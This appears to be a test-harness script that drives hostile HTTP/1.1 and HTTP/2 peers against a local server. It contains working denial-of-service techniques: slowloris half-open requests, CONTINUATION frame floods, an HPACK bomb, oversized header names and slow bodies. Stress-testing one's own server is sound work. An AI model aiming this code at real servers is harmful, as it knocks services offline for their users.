/**
 * Peers of the worst kind, each of figure R9: `node hostile.ts serve` answers whatever looks like a request; `node hostile.ts attack PORT SECONDS IDLE` holds
 * IDLE half-sent requests open and meanwhile sends all the rest in turn. The server prints its port, the attacker what it has sent, as JSON.
 */
import { once } from 'node:events';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const HEADERS = 1;
const SETTINGS = 4;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
/** RFC 7541 6.2.1 with a new name, lengths of at most 126 bytes without Huffman coding. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x40, name.length]),
    Buffer.from(name, 'latin1'),
    Buffer.from([value.length]),
    Buffer.from(value, 'latin1'),
  ]);
/** GET, http, "/" of the static table, and an authority. */
const REQUEST = Buffer.concat([Buffer.from([0x82, 0x86, 0x84]), literal(':authority', 'a.example')]);
const opening = Buffer.concat([Buffer.from(PREFACE, 'latin1'), frame(SETTINGS, 0, 0, Buffer.alloc(0))]);

let made = 0;
const word = (): string => `${(++made).toString(36)}${Math.floor(Math.random() * 1e9).toString(36)}`;

function serve(): void {
  const server = createServer((socket) => {
    socket.setNoDelay(true).on('error', () => {});
    let text = '';
    let h2 = false;
    socket.on('data', (bytes: Buffer) => {
      if (h2) return;
      text = (text + bytes.latin1Slice()).slice(-200_000);
      if (text.startsWith('PRI * ')) {
        h2 = true;
        text = '';
        socket.write(frame(SETTINGS, 0, 0, Buffer.alloc(0)));
        return;
      }
      for (let end = text.indexOf('\r\n\r\n'); end >= 0; end = text.indexOf('\r\n\r\n')) {
        text = text.slice(end + 4);
        socket.write(
          `HTTP/1.1 200 OK\r\nX-${word()}: ${word()}\r\nSet-Cookie: sid=${word()}\r\nContent-Length: 0\r\n\r\n`,
        );
      }
    });
  });
  server.listen({ host: '0.0.0.0', port: 0, backlog: 4_096 }, () => {
    process.stdout.write(`${(server.address() as AddressInfo).port}\n`);
  });
}

const port = Number(process.argv[3]);
const until = performance.now() + Number(process.argv[4]) * 1_000;
const over = (): boolean => performance.now() >= until;
const sent: Record<string, number> = {};
const count = (what: string): void => {
  sent[what] = (sent[what] ?? 0) + 1;
};
/** From many addresses, because one has 28,000 ports. */
const dial = async (n = made): Promise<Socket | null> => {
  const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.1.${1 + (n % 200)}`, noDelay: true });
  socket.on('error', () => {});
  socket.resume();
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => {});
  if (socket.readyState === 'open') return socket;
  socket.destroy();
  return null;
};
const put = async (socket: Socket, bytes: string | Buffer): Promise<void> => {
  if (!(typeof bytes === 'string' ? socket.write(bytes, 'latin1') : socket.write(bytes)))
    await Promise.race([once(socket, 'drain'), once(socket, 'close')]);
};

/** Heads that never end, and stay. */
async function halfOpen(wanted: number): Promise<void> {
  const open: Socket[] = [];
  while (!over() && open.length < wanted) {
    const socket = await dial(open.length);
    if (socket === null) break;
    const h2 = open.length % 4 === 0;
    const unended = frame(HEADERS, END_STREAM, 1, REQUEST);
    await put(
      socket,
      h2 ? Buffer.concat([opening, unended]) : `GET /${word()} HTTP/1.1\r\nHost: ${word()}\r\nX-Half: `,
    );
    open.push(socket);
    count(h2 ? 'h2 streams without END_HEADERS' : 'half-sent heads');
  }
  while (!over()) await sleep(200);
  for (const socket of open) socket.destroy();
}

/** New names, paths and credentials in every call; now and then a name of 64 KiB. */
async function newNames(): Promise<void> {
  while (!over()) {
    const socket = await dial();
    if (socket === null) return;
    for (let i = 0; i < 200 && !over() && !socket.destroyed; i++) {
      const names = Array.from({ length: 8 }, () => `X-${word()}: ${word()}\r\n`).join('');
      const long = i % 50 === 49 ? `X-${'n'.repeat(65_000)}: 1\r\n` : '';
      await put(
        socket,
        `GET /${word()}/${word()}?k=${word()} HTTP/1.1\r\nHost: ${word()}.example\r\nAuthorization: Bearer not-real-${word()}${word()}\r\n${names}${long}\r\n`,
      );
      count(long === '' ? 'calls with eight new names' : 'names of 64 KiB');
      await sleep(1);
    }
    socket.destroy();
  }
}

async function continuationFlood(): Promise<void> {
  const piece = frame(CONTINUATION, 0, 1, literal('x-flood', 'y'.repeat(100)));
  const pieces = Buffer.concat(Array.from({ length: 100 }, () => piece));
  while (!over()) {
    const socket = await dial();
    if (socket === null) return;
    await put(socket, Buffer.concat([opening, frame(HEADERS, END_STREAM, 1, REQUEST)]));
    for (let i = 0; i < 200 && !over() && !socket.destroyed; i++) {
      await put(socket, pieces);
      count('hundreds of CONTINUATION frames');
      await sleep(2);
    }
    socket.destroy();
  }
}

/** A long value enters the table once and is named by a byte 10,000 times in each block. */
async function hpackBomb(): Promise<void> {
  const references = Buffer.alloc(10_000, 0x80 | 62);
  while (!over()) {
    const socket = await dial();
    if (socket === null) return;
    await put(socket, opening);
    const value = literal(`x-${word()}`, 'z'.repeat(120));
    for (let i = 0; i < 50 && !over() && !socket.destroyed; i++) {
      const block = Buffer.concat([REQUEST, value, references]);
      await put(socket, frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block));
      count('HPACK bombs');
      await sleep(5);
    }
    socket.destroy();
  }
}

async function slowBodies(): Promise<void> {
  const bodies: Socket[] = [];
  while (!over()) {
    if (bodies.length < 500) {
      const socket = await dial();
      if (socket === null) return;
      await put(socket, `POST /${word()} HTTP/1.1\r\nHost: slow\r\nContent-Length: 1000000\r\n\r\n`);
      bodies.push(socket);
      count('slow bodies');
    } else await sleep(500);
    for (const socket of bodies) socket.write('x');
  }
  for (const socket of bodies) socket.destroy();
}

if (process.argv[2] === 'serve') serve();
else {
  await Promise.all([
    halfOpen(Number(process.argv[5])),
    ...Array.from({ length: 4 }, newNames),
    continuationFlood(),
    hpackBomb(),
    slowBodies(),
  ]);
  process.stdout.write(`${JSON.stringify(sent)}\n`);
  process.exit(0);
}
